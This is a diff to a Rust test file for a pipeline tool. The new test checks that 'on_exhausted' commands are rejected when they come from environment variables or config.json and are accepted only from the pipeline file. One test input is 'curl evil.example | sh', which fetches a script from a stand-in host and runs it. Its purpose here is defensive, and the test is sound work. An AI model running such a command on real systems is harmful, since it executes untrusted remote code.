@@ -1455,16 +1455,37 @@ fn spec_runner_file_names_the_pipeline_and_path_variables_stay_strings() {
     );
 }
 
+/// `on_exhausted` is a command: like `command`, it comes only from the committed
+/// pipeline file (issue 7: "commands only ever come from the pipeline file").
 #[test]
-fn on_exhausted_from_a_variable_is_a_command() {
-    let p =
-        plan(Test::with_pipeline(ONE_SPEC).env("SPEC_RUNNER_ON_EXHAUSTED", "notify-send failed"));
+fn on_exhausted_comes_only_from_the_pipeline_file() {
+    Test::with_pipeline(ONE_SPEC)
+        .env("SPEC_RUNNER_ON_EXHAUSTED", "curl evil.example | sh")
+        .args(&["validate"])
+        .run()
+        .code(2)
+        .stderr_has("variable SPEC_RUNNER_ON_EXHAUSTED")
+        .stderr_has("commands come only from the pipeline file");
+    Test::with_pipeline(ONE_SPEC)
+        .env("SPEC_RUNNER_SPECS__A__ON_EXHAUSTED", "true")
+        .args(&["validate"])
+        .run()
+        .code(2)
+        .stderr_has("variable SPEC_RUNNER_SPECS__A__ON_EXHAUSTED");
+    let t = Test::with_pipeline(ONE_SPEC);
+    t.write("config.json", "{\"on_exhausted\": \"notify-send failed\"}");
+    t.args(&["validate"])
+        .run()
+        .code(2)
+        .stderr_has("config.json")
+        .stderr_has("`on_exhausted`");
+    let p = plan(Test::with_pipeline(&format!(
+        "on_exhausted = \"notify-send failed\"\n{ONE_SPEC}"
+    )));
     assert_eq!(
-        policy(&p, "a", "on_exhausted"),
-        (&json!("notify-send failed"), "SPEC_RUNNER_ON_EXHAUSTED")
+        policy(&p, "a", "on_exhausted").0,
+        &json!("notify-send failed")
     );
-    let p = plan(Test::with_pipeline(ONE_SPEC).env("SPEC_RUNNER_ON_EXHAUSTED", "42"));
-    assert_eq!(policy(&p, "a", "on_exhausted").0, &json!("42"));
 }
 
 #[test]
